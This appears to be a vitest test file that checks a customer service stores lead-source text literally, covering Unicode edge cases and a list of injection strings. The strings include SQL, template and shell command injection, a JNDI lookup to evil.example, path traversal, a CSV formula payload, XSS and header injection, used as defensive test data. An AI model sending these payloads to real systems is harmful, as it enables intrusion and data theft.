import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { startTestService, type TestService } from '../support/service.ts';
import { expectAccepted } from '../support/verdicts.ts';

let service: TestService;
beforeAll(async () => {
  service = await startTestService();
});
afterAll(() => service[Symbol.asyncDispose]());

interface ListedCustomer {
  readonly id: string;
  readonly _embedded: { readonly leadSource: Readonly<Record<string, unknown>> };
}

/** The customers that a filter selects, with their lead sources. */
async function customersBy(filter: string): Promise<readonly ListedCustomer[]> {
  const query = `limit=1000&expand=leadSource&filter=${encodeURIComponent(filter)}`;
  const { status, body } = await service.call('GET', `/customers?${query}`);
  expect(status).toBe(200);
  return body as readonly ListedCustomer[];
}

function quoted(text: string): string {
  return `"${text.replaceAll(/["\\]/g, '\\$&')}"`;
}

async function expectKeptLiterally(text: string): Promise<void> {
  const id = await expectAccepted(service, { source: text, clickId: text }, { source: text, clickId: text });
  for (const field of ['leadSource.source', 'original.clickId']) {
    const found = await customersBy(`${field}:${quoted(text)}`);
    expect(found.map((customer) => customer.id)).toContain(id);
    expect(new Set(found.map(({ _embedded }) => _embedded.leadSource['source']))).toEqual(new Set([text]));
    const others = await customersBy(`${field}:!${quoted(text)};id:${id}`);
    expect(others).toEqual([]);
  }
}

describe('text of every script is kept code point for code point, and found by exactly that', () => {
  test.each([
    ['joined emoji', '👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽'],
    ['flags', '🇩🇪🇫🇷🏴󠁧󠁢󠁳󠁣󠁴󠁿'],
    ['stacked combining marks', `Z${'\u0351\u036b\u0343\u036a\u0302'.repeat(40)}`],
    ['combining marks alone', '\u0301\u0301'],
    ['right-to-left override', 'abc\u202egnp.exe\u202c'],
    ['directional isolates', '\u2066x\u2069'],
    ['zero width characters', 'a\u200bb\u200cc\u200dd\u2060'],
    ['U+FEFF inside', 'a\ufeffb'],
    ['U+FEFF first', '\ufeffa'],
    ['U+FFFD', '\ufffd'],
    ['private use', '\ue000\u{f0000}\u{10fffd}'],
    ['noncharacters', '\ufffe\uffff\u{1ffff}\u{10ffff}'],
    ['composed é', '\u00e9'],
    ['decomposed é', 'e\u0301'],
    ['a ligature', 'ﬁ'],
    ['the letters of the ligature', 'fi'],
    ['İ', 'İ'],
    ['i with a dot above', 'i\u0307'],
    ['ı', 'ı'],
    ['I', 'I'],
    ['i', 'i'],
    ['ẞ', 'ẞ'],
    ['ß', 'ß'],
    ['SS', 'SS'],
    ['Kelvin sign', '\u212a'],
    ['K', 'K'],
    ['long s', 'ſ'],
    ['full-width letters', 'ｇｏｏｇｌｅ'],
    ['Arabic, Hebrew, Chinese, Thai', 'العربية עברית 中文 ไทย'],
    ['line and paragraph separators', 'a\u2028b\u2029c'],
    ['spaces around', '  a  '],
    ['no spaces around', 'a'],
    ['only spaces', '   '],
    ['one space', ' '],
    ['a no-break space', '\u00a0'],
    ['the empty text', ''],
    ['a tab', '\t'],
    ['a line break', '\n'],
    ['a carriage return and a line break', '\r\n'],
  ])('%s', async (_, text) => expectKeptLiterally(text));

  test('the empty text is not null', async () => {
    const empty = await expectAccepted(service, { campaign: '' }, { campaign: '' });
    const unset = await expectAccepted(service, { campaign: null });
    const ids = async (filter: string) => (await customersBy(filter)).map(({ id }) => id);
    expect(await ids('leadSource.campaign:""')).toEqual([empty]);
    expect(await ids('leadSource.campaign:null')).toContain(unset);
    expect(await ids('leadSource.campaign:null')).not.toContain(empty);
    expect(await ids('leadSource.campaign:"null"')).toEqual([]);
  });
});

describe('text that means something elsewhere is kept literally, and found by exactly that', () => {
  test.each([
    "'; DROP TABLE customer; --",
    "' OR '1'='1",
    '" OR ""="',
    "1' UNION SELECT secret_hash FROM api_key --",
    "Robert'); DELETE FROM touch;--",
    '%',
    '_',
    '100%',
    'a_b',
    '%27',
    '*',
    '?',
    '[a-z]',
    '\\',
    '\\\\',
    "\\'",
    "''",
    '$1',
    ':name',
    '@p1',
    '{{7*7}}',
    '{% raw %}',
    '<%= 7*7 %>',
    '#{7*7}',
    '$' + '{7*7}',
    '$' + '{jndi:ldap://evil.example/a}',
    '; cat /etc/passwd',
    '$(id)',
    '`id`',
    '| id',
    '&& id',
    '../../etc/passwd',
    '=cmd|"/C calc"!A0',
    '+1',
    '-1',
    '@SUM(1+1)*cmd',
    '\t=1+1',
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '&lt;script&gt;',
    ']]>',
    '<!--',
    'null',
    'undefined',
    '"null"',
    'a,b;c:d!e..f',
    '!a',
    '..',
    '{"$ne":null}',
    '%s%n%d',
    'a\r\nX-Injected: yes',
    'a\nSet-Cookie: a=b',
    '\u001b[31mred\u001b[0m',
  ])('%j', async (text) => expectKeptLiterally(text));

  test('% and _ stand for themselves in a filter', async () => {
    const [percent, underscore] = [
      await expectAccepted(service, { term: 'x%z' }, { term: 'x%z' }),
      await expectAccepted(service, { term: 'x_z' }, { term: 'x_z' }),
      await expectAccepted(service, { term: 'xyz' }, { term: 'xyz' }),
    ];
    const ids = async (filter: string) => (await customersBy(filter)).map(({ id }) => id);
    expect(await ids('leadSource.term:x%z')).toEqual([percent]);
    expect(await ids('leadSource.term:x_z')).toEqual([underscore]);
    for (const wild of ['%', 'x%', '_', 'x__', '*', 'x*z', 'x?z', '/x.z/', 'X_Z']) {
      expect(await ids(`leadSource.term:${wild}`)).toEqual([]);
    }
  });

  test('no field becomes a header', async () => {
    const text = 'a\r\nX-Injected: yes\r\n\r\n<html>';
    const written = await service.call('PUT', '/customers/header/lead-source', {
      body: { source: text, path: text, clickId: text },
    });
    const read = await service.call('GET', '/customers/header/lead-source');
    for (const { headers } of [written, read]) {
      expect(headers.has('x-injected')).toBe(false);
      expect([...headers.values()].join()).not.toMatch(/injected|html/i);
    }
  });

  test('an answer that holds HTML is never served as HTML', async () => {
    await service.call('PUT', '/customers/html/lead-source', { body: { source: '<script>' } });
    const read = await service.call('GET', '/customers/html/lead-source');
    expect(read.headers.get('content-type')).toMatch(/^application\/json/);
    const missing = await service.call('GET', '/<script>alert(1)</script>');
    expect(missing.headers.get('content-type')).toBe('application/problem+json');
  });
});
